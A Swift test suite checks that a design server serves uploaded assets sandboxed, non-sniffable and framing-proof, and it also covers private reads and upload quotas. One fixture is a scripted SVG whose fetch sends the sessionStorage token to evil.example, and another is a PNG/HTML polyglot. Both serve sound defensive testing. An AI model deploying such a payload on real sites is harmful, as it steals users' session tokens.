import Foundation
@testable import LiveryServer
import SkinStore
import Testing

/// Assets cannot script anything (docs/api.md, "Assets"): a designer's SVG with `<script>`, opened
/// at its URL in the console's tab, must not run on the console's origin, where the designer
/// token lives in `sessionStorage`; private reads cover assets; the store holds a bounded number
/// of them. The browser side (the script really does not run) is Tests/Browser/asset_test.py.
@Suite struct AssetSafetyTests {
    static let scriptedSVG = Array(
        #"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?t=" + sessionStorage.getItem("token"))</script></svg>"#.utf8)
    /// Bytes that are a PNG to the type check and an HTML page to a sniffing browser.
    static let polyglot: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + Array("<html><script>alert(1)</script></html>".utf8)
    static let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + Array(repeating: 0, count: 32)

    static func upload(_ server: TestServer, _ bytes: [UInt8], type: String, token: String) async throws -> TestResponse {
        try await server.request("POST", "/v1/assets", headers: [("Authorization", "Bearer \(token)"), ("Content-Type", type)], body: bytes)
    }

    @Test func everyAssetIsSandboxedAndActiveOnesAreAttachments() async throws {
        try await TestServer.run { server in
            let designer = try await server.token(.designer)
            let svg = try #require(try await Self.upload(server, Self.scriptedSVG, type: "image/svg+xml", token: designer).json["url"] as? String)
            let polyglot = try #require(try await Self.upload(server, Self.polyglot, type: "image/png", token: designer).json["url"] as? String)

            let served = try await server.get(svg)
            #expect(served.status == 200)
            #expect(served.header("Content-Type") == "image/svg+xml")
            #expect(served.header("Content-Security-Policy") == "default-src 'none'; sandbox")
            #expect(served.header("X-Content-Type-Options") == "nosniff")
            let disposition = try #require(served.header("Content-Disposition"))
            #expect(disposition.hasPrefix("attachment;") && disposition.contains(".svg\""))

            let image = try await server.get(polyglot)
            #expect(image.header("Content-Type") == "image/png")
            #expect(image.header("X-Content-Type-Options") == "nosniff", "without nosniff a browser may run the polyglot as HTML")
            #expect(image.header("Content-Security-Policy") == "default-src 'none'; sandbox")
            #expect(image.header("Content-Disposition") == nil, "passive images stay inline for <img> and for viewing")
        }
    }

    @Test func activeAssetsAreInlineOnlyOnTheConfiguredAssetOrigin() {
        let sha = String(repeating: "a", count: 64)
        func disposition(host: String?, origin: String?) -> String? {
            AssetDelivery.headers(contentType: "image/svg+xml", sha256: sha, host: host, assetOrigin: origin)
                .first { $0.name.lowercased() == "content-disposition" }?.value
        }
        #expect(disposition(host: "livery.example.com", origin: nil) != nil)
        #expect(disposition(host: "livery.example.com", origin: "https://assets.example.com") != nil, "the console's origin")
        #expect(disposition(host: "Assets.Example.com", origin: "https://assets.example.com") == nil)
        #expect(disposition(host: "assets.example.com", origin: "https://assets.example.com:443") == nil)
        #expect(disposition(host: "assets.example.com:8443", origin: "https://assets.example.com") != nil, "another port is another origin")
        #expect(disposition(host: nil, origin: "https://assets.example.com") != nil)
        #expect(AssetDelivery.originHost("assets.example.com") == nil, "an origin names its scheme")
        #expect(AssetDelivery.originHost("https://assets.example.com/img") == nil, "an origin has no path")
    }

    @Test func privateReadsCoverAssets() async throws {
        try await TestServer.run(configure: { $0.publicReads = false }) { server in
            let designer = try await server.token(.designer)
            let reader = try await server.token(.reader)
            let url = try #require(try await Self.upload(server, Self.png, type: "image/png", token: designer).json["url"] as? String)
            #expect(try await server.get(url).status == 401)
            #expect(try await server.get(url, headers: [("Authorization", "Bearer nope")]).status == 401)
            let read = try await server.get(url, headers: [("Authorization", "Bearer \(reader)")])
            #expect(read.status == 200)
            #expect(read.body == Self.png)
            // An unknown asset is no oracle either: 401 before the lookup.
            #expect(try await server.get("/v1/assets/\(String(repeating: "0", count: 64))").status == 401)
        }
    }

    @Test func uploadsStopAtTheAssetQuota() async throws {
        try await TestServer.run(configure: { $0.assetMaxCount = 2; $0.assetMaxBytes = 100 }) { server in
            let designer = try await server.token(.designer)
            let first = Self.png
            #expect(try await Self.upload(server, first, type: "image/png", token: designer).status == 201)
            // 40 + 70 bytes pass assets.maxBytes = 100.
            let large = Self.png + Array(repeating: 1, count: 30)
            let overBytes = try await Self.upload(server, large, type: "image/png", token: designer)
            #expect(overBytes.status == 507)
            #expect(overBytes.header("Content-Type")?.hasPrefix("application/problem+json") == true)
            #expect((overBytes.json["detail"] as? String)?.contains("assets.maxBytes") == true)
            #expect((overBytes.json["type"] as? String)?.hasSuffix("/asset-quota-exceeded") == true)
            #expect(try await server.get("/v1/assets/\(SHA256Digest.hex(large))").status == 404, "nothing stored")

            let second = Self.png + [1]
            #expect(try await Self.upload(server, second, type: "image/png", token: designer).status == 201)
            let third = Self.png + [2]
            let overCount = try await Self.upload(server, third, type: "image/png", token: designer)
            #expect(overCount.status == 507)
            #expect((overCount.json["detail"] as? String)?.contains("assets.maxCount") == true)
            // The same bytes again add nothing, so a full quota still accepts them.
            #expect(try await Self.upload(server, first, type: "image/png", token: designer).status == 201)
        }
    }

    @Test func theConsoleCannotBeFramed() async throws {
        try await TestServer.run { server in
            for path in ["/", "/console/index.html", "/console/app.js"] {
                let answer = try await server.get(path)
                #expect(answer.header("Content-Security-Policy")?.contains("frame-ancestors 'none'") == true, "\(path)")
                #expect(answer.header("X-Frame-Options") == "DENY", "\(path)")
            }
        }
    }
}
